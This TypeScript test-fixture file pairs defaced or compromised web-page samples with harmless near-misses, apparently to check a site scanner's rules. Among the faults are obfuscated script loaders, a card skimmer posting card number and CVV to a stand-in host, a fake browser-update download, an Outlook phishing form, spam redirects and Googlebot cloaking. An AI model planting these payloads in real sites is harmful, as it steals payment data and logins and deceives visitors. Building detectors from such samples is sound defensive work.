import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  CITY,
  CONTACT,
  copyPage,
  edit,
  full,
  HOME,
  head,
  jsonLd,
  link,
  main,
  RAIN,
  TOUR,
  TYRES,
} from "./planting.ts";
import type { World } from "./world.ts";

const LOADER = "https://zaehlwerk-cdn.example/lader.js";
const PAGES = 24;

/** Orders for school work, in a template of its own; `from` links to them, openly or not. */
function ghostwriters(w: World, links: (anchors: string) => string): void {
  const paths = Array.from({ length: PAGES }, (_, n) => `/zadania/praca-${n}/`);
  for (const [n, path] of paths.entries())
    add(
      w,
      path,
      `<!doctype html><html lang="pl"><head><title>Praca numer ${n}</title></head><body><h1>Praca ${n}</h1><p>Piszemy szybko i bez pytań, termin ${n} dni, cena do uzgodnienia przez komunikator.</p><a href="${paths[(n + 1) % PAGES]}">następna</a></body></html>`,
    );
  main(w, HOME, links(paths.map((path, n) => `<a href="${path}">praca ${n}</a>`).join(" ")));
}

function partnersStyled(sheet: string): string {
  const cards = [
    "huta szkła Olsza",
    "ślusarz na Baranach",
    "malarnia proszkowa",
    "transport drewna",
    "odlewnia żeliwa",
  ].map((text, at) => `<a class="karta" href="https://www.firma-${"qwxyz"[at]}.example/">${text}</a>`);
  return `<style>${sheet}</style>${cards.join(" ")}`;
}

/** A page of its own in place of the main part of a sound one. */
function replaced(w: World, path: string, html: string): void {
  copyPage(w, TOUR, path);
  edit(w, path, [/<main[\s\S]*<\/main>/, `<main>${html}</main>`]);
  link(w, ABOUT, path);
}

function entries(rel: string): string {
  const hosts = ["mulino-bianco", "ruota-verde", "orto-felice", "lago-blu"];
  const items = hosts.map(
    (host) => `<li><a ${rel} href="https://${host}.example/">${host}</a><p>Bel posto, grazie!</p></li>`,
  );
  return `<ol class="commentlist">${items.join("")}</ol>`;
}

function codes(text: string, shift: number): string {
  return `[${[...text].map((letter) => letter.charCodeAt(0) + shift).join(",")}]`;
}

/** What intruders, builders and programs leave, in other forms than those known by name. */
export const INTRUDER_CASES: AccuracyCase[] = [
  {
    rule: "injected_spam",
    fault: (w) => ghostwriters(w, (anchors) => `<div style="display:none">${anchors}</div>`),
    nearMiss: (w) => ghostwriters(w, (anchors) => `<p>${anchors}</p>`),
  },
  {
    // The cards of partners that fade in as visitors scroll.
    rule: "injected_spam",
    fault: (w) => main(w, ABOUT, partnersStyled(".karta{opacity:0}")),
    nearMiss: (w) =>
      main(w, ABOUT, partnersStyled(".karta{opacity:0;transform:translateY(14px);transition:opacity .6s ease}")),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        CITY,
        '<script>if (/bing|yandex/i.test(document.referrer)) location.replace("https://los-gewinn.example/")</script>',
      ),
    nearMiss: (w) =>
      main(w, CITY, '<script>if (/bing/i.test(document.referrer)) console.log("https://los.example/")</script>'),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        CITY,
        '<script>if (/Android|iPhone/.test(navigator.userAgent)) location.href = "https://prix-du-jour.example/"</script>',
      ),
    nearMiss: (w) =>
      main(
        w,
        CITY,
        '<script>if (/Android/.test(navigator.userAgent)) location.href = "https://play.google.com/store/apps/details?id=radhof"</script>',
      ),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      edit(w, TYRES, [/<title>[^<]*/, "<title>Bukmacherzy bez podatku, kasyno online i bonus bez depozytu"]),
    nearMiss: (w) => edit(w, TYRES, [/<title>[^<]*/, "<title>A bet on winter: tyres for ice and slush"]),
  },
  {
    rule: "injected_spam",
    fault: (w) => edit(w, TYRES, [/<title>[^<]*/, "<title>レディース 財布 新作 送料無料 正規品"]),
    nearMiss: (w) => edit(w, TYRES, [/<title>[^<]*/, "<title>Winter tyres from 冬 Works, Osaka"]),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        RAIN,
        `<script>var u=${codes(LOADER, 2)}.map(function(c){return String.fromCharCode(c-2)}).join("");var s=document.createElement("script");s.src=u;document.head.append(s)</script>`,
      ),
    nearMiss: (w) =>
      main(
        w,
        RAIN,
        `<script>var s=document.createElement("p");s.textContent=String.fromCharCode(...${codes("backstube am fluss", 0)})</script>`,
      ),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        RAIN,
        `<script>document.body.append(Object.assign(document.createElement("script"),{src:atob("${btoa(LOADER)}")}))</script>`,
      ),
    nearMiss: (w) =>
      main(w, RAIN, `<script>location.hash = JSON.parse(atob("${btoa('{"ort":"Brno"}')}")).ort</script>`),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(
        w,
        TOUR,
        '<script>kasse.onsubmit=()=>fetch("https://statistik-js.example/k",{method:"POST",body:JSON.stringify({n:cardNumber.value,c:cvv.value})})</script>',
      ),
    nearMiss: (w) =>
      main(
        w,
        TOUR,
        '<script>kasse.onsubmit=()=>fetch("https://api.stripe.com/v1/tokens",{method:"POST",body:JSON.stringify({n:cardNumber.value,c:cvv.value})})</script>',
      ),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      main(w, TOUR, '<p><a href="https://pobierz-teraz.example/setup.exe">Zaktualizuj przeglądarkę Chrome</a></p>'),
    nearMiss: (w) =>
      main(w, TOUR, '<p><a href="https://www.google.com/chrome/">Zaktualizuj przeglądarkę Chrome</a></p>'),
  },
  {
    rule: "injected_spam",
    fault: (w) => {
      add(
        w,
        "/poczta/",
        '<!doctype html><html lang="pl"><title>Outlook - zaloguj się</title><h1>Outlook</h1><form method="post" action="dalej.php"><input name="u"><input type="password" name="p"></form></html>',
      );
      link(w, ABOUT, "/poczta/");
    },
    nearMiss: (w) => {
      add(
        w,
        "/poczta/",
        '<!doctype html><html lang="pl"><title>Klienci - zaloguj się</title><h1>Klienci</h1><form method="post" action="dalej.php"><input name="u"><input type="password" name="p"></form></html>',
      );
      link(w, ABOUT, "/poczta/");
    },
  },
  {
    rule: "script_host_taken_over",
    fault: (w) => head(w, CITY, '<script src="https://cdn.staticfile.net/vue/2.7.0/vue.min.js" defer></script>'),
    nearMiss: (w) =>
      main(
        w,
        CITY,
        '<p>Das Skript von <a href="https://www.example.org/cycling-report">polyfill.io</a> ist seit 2024 nicht mehr dabei.</p>',
      ),
  },
  {
    rule: "veiled_text",
    fault: (w) =>
      main(
        w,
        ABOUT,
        '<div style="background:#f4f4f4"><p style="color:#F5F5F5">fiorista milano economico fiori domicilio milano mazzi rose milano consegna fiori milano fioraio centro milano bouquet sposa milano</p></div>',
      ),
    nearMiss: (w) =>
      main(
        w,
        ABOUT,
        '<style>.voce{position:absolute;left:-9999px}</style><p><span class="voce">Prezzo in euro:</span> 12</p><div style="font-size:0"><p style="font-size:16px">I mazzi partono ogni mattina dalla serra e arrivano prima di pranzo in tutto il centro, anche la domenica e nei giorni di festa.</p></div>',
      ),
  },
  {
    rule: "comment_spam",
    fault: (w) => main(w, RAIN, entries("")),
    nearMiss: (w) => main(w, RAIN, entries('rel="ugc nofollow"')),
  },
  {
    rule: "markup_shown",
    fault: (w) =>
      main(w, ABOUT, "<p>&lt;p&gt;Nasza &lt;strong&gt;piekarnia&lt;/strong&gt; działa od 1990 roku&lt;/p&gt;</p>"),
    nearMiss: (w) =>
      main(
        w,
        ABOUT,
        "<p>Im Kurs zeigen wir &lt;strong und schreiben <code>&lt;p&gt;Brot&lt;/p&gt;</code>; 3 &lt; 5 &amp; 7 &gt; 2.</p>",
      ),
  },
  {
    rule: "markup_shown",
    fault: (w) => main(w, ABOUT, "<p>Bonjour <?php echo $client->nom; ?>, bienvenue</p>"),
    nearMiss: (w) =>
      main(w, ABOUT, "<pre>&lt;?php echo $client->nom; ?&gt;</pre><!-- <?php echo 1; ?> --><p>Fini.</p>"),
  },
  {
    rule: "empty_page",
    fault: (w) => {
      add(w, "/horario/", "");
      link(w, ABOUT, "/horario/");
    },
    nearMiss: (w) => {
      add(
        w,
        "/horario/",
        '<!doctype html><title>Horario</title><img src="/img/city.webp" alt="Horario" width="8" height="8">',
      );
      link(w, ABOUT, "/horario/");
    },
  },
  {
    rule: "empty_listing",
    fault: (w) =>
      replaced(
        w,
        "/kategorie/laternen/",
        "<h1>Laternen</h1><p>Keine Produkte gefunden, die deiner Auswahl entsprechen.</p>",
      ),
    nearMiss: (w) =>
      replaced(w, "/kategorie/laternen/", "<h1>Laternen</h1><p>Wer keine Produkte gefunden hat, ruft uns an.</p>"),
  },
  {
    rule: "test_page",
    fault: (w) => replaced(w, "/prueba-3/", "<h1>prueba</h1><p>hola hola</p>"),
    nearMiss: (w) =>
      replaced(w, "/prueba-de-manejo/", "<h1>Prueba de manejo</h1><p>Reserve una hora y pruebe la bicicleta.</p>"),
  },
  {
    rule: "sample_contact",
    fault: (w) => main(w, CONTACT, '<p><a href="mailto:hallo@ihre-domain.de">Schreiben Sie uns</a></p>'),
    nearMiss: (w) =>
      main(
        w,
        CONTACT,
        '<p>Ihre Adresse, etwa name@example.com, behalten wir für uns. <a href="tel:+4930901820555">Anruf</a></p>',
      ),
  },
  {
    rule: "sample_contact",
    fault: (w) => jsonLd(w, ABOUT, { "@type": "Person", name: "Erika Mustermann", jobTitle: "Bäckerin" }),
    nearMiss: (w) => jsonLd(w, ABOUT, { "@type": "Person", name: "Erika Muster", jobTitle: "Bäckerin" }),
  },
  {
    rule: "sample_contact",
    fault: (w) => main(w, CONTACT, "<p>Max Mustermann, Musterstraße 7, 12345 Berlin</p>"),
    nearMiss: (w) => main(w, CONTACT, "<p>Mario Rossi, Via Garibaldi 7, Torino</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) =>
      main(w, ABOUT, "<p>Dit is een alinea. Klik hier om hem te bewerken en je eigen verhaal toe te voegen.</p>"),
    nearMiss: (w) =>
      main(w, ABOUT, "<p>Klik hier om je eigen tekst op de vaas te zetten; een alinea past er niet op.</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) =>
      main(
        w,
        ABOUT,
        "<p>Vestibulum auctor dapibus neque, praesent sapien massa convallis, aliquam tincidunt mauris pharetra.</p>",
      ),
    nearMiss: (w) =>
      main(w, ABOUT, "<p>Gallia est omnis divisa in partes tres, quarum unam incolunt Belgae, aliam Aquitani.</p>"),
  },
  {
    rule: "placeholder_text",
    fault: (w) => main(w, ABOUT, "<p>Cher *|PRENOM|*, votre bouquet part demain.</p>"),
    nearMiss: (w) => main(w, ABOUT, "<p>Remise de 10 % puis 20 % | * hors livraison * |, et 5 % en plus.</p>"),
  },
  {
    rule: "title_placeholder",
    fault: (w) => edit(w, CITY, [/<title>[^<]*/, "<title>Serra di Hyères – Un nuovo sito targato WordPress"]),
    nearMiss: (w) => edit(w, CITY, [/<title>[^<]*/, "<title>Sito WordPress per fioristi – Serra di Hyères"]),
  },
  {
    rule: "error_text",
    fault: (w) =>
      main(
        w,
        TOUR,
        "<p class='wpdberror'><strong>Błąd bazy danych:</strong> [Table 'a.b' doesn't exist]<br><code>SELECT 1</code></p>",
      ),
    nearMiss: (w) => main(w, TOUR, "<p>Der Tisch (Table 'Eiche') existiert nicht mehr, ein Fehler im Katalog.</p>"),
  },
  {
    rule: "error_text",
    fault: (w) => main(w, TOUR, "<p>sqlalchemy.exc.ProgrammingError: (psycopg2.errors) no such column</p>"),
    nearMiss: (w) =>
      main(w, TOUR, "<p>Wir erklären den ProgrammingError: eine Abfrage fragt nach einer Spalte, die fehlt.</p>"),
  },
  {
    rule: "exposed_files",
    fault: (w) => {
      link(w, ABOUT, "/export/klienci.csv");
      add(w, "/export/klienci.csv", "id;imie;email\n1;Ewa;ewa@poczta.pl\n2;Jan;jan@poczta.pl\n3;Ola;ola@poczta.pl\n", {
        "content-type": "text/csv",
      });
    },
    nearMiss: (w) => {
      link(w, ABOUT, "/export/cennik.csv");
      add(w, "/export/cennik.csv", "id;nazwa;cena\n1;zamek;20\n2;klucz;5\n3;wkładka;60\n", {
        "content-type": "text/csv",
      });
    },
  },
  {
    rule: "exposed_internals",
    fault: (w) => add(w, "/adminer.php", '<!doctype html><title>Login - Adminer</title><input name="auth[server]">'),
    nearMiss: (w) => add(w, "/adminer.php", "<!doctype html><title>Nicht gefunden</title>"),
  },
  {
    rule: "closing_notice",
    fault: (w) => main(w, TOUR, "<p>Il nostro laboratorio ha chiuso definitivamente. Grazie a tutti!</p>"),
    nearMiss: (w) =>
      main(w, TOUR, "<p>La vecchia ferrovia ha chiuso definitivamente nel 1969, oggi è una ciclabile.</p>"),
  },
  {
    rule: "notice_outdated",
    fault: (w) => main(w, CONTACT, "<p>Wegen der Corona-Pandemie öffnen wir nur nach Anmeldung.</p>"),
    nearMiss: (w) => main(w, RAIN, "<p>In der Pandemie lernten viele Leute, ihr Rad selbst zu pflegen.</p>"),
  },
  {
    rule: "theme_demo_pages",
    fault: (w) =>
      replaced(w, "/shop-demo-lamps/", "<h1>Shop Demo Lamps</h1><p>Brass lamp 49.00, new arrivals of the season.</p>"),
    nearMiss: (w) =>
      replaced(w, "/demo-day-lamps/", "<h1>Demo day</h1><p>Come and see how we solder a brass lamp on Saturday.</p>"),
  },
  {
    rule: "mojibake",
    fault: (w) => main(w, CITY, "<p>M?nster, K?ln und D?sseldorf liefern wir t?glich.</p>"),
    nearMiss: (w) => main(w, CITY, "<p>Wohin? Nach Köln? Ja: /suche?ort=Köln und /liste?seite=2 zeigen es.</p>"),
  },
  {
    rule: "cloaked_pages",
    fault: (w) => {
      copyPage(w, RAIN, "/sezon/");
      link(w, ABOUT, "/sezon/");
      at(w, "/sezon/").byAgent.Googlebot = {
        status: 200,
        body: `<!doctype html><title>Tanie zegarki repliki sklep</title><h1>Zegarki</h1><p>${"repliki zegarków tanio wysyłka gratis ".repeat(12)}<a href="https://zegarki-kopie.example/">kup</a></p>`,
      };
    },
    nearMiss: (w) => {
      copyPage(w, RAIN, "/sezon/");
      link(w, ABOUT, "/sezon/");
      at(w, "/sezon/").headers.vary = full(RAIN);
    },
  },
];
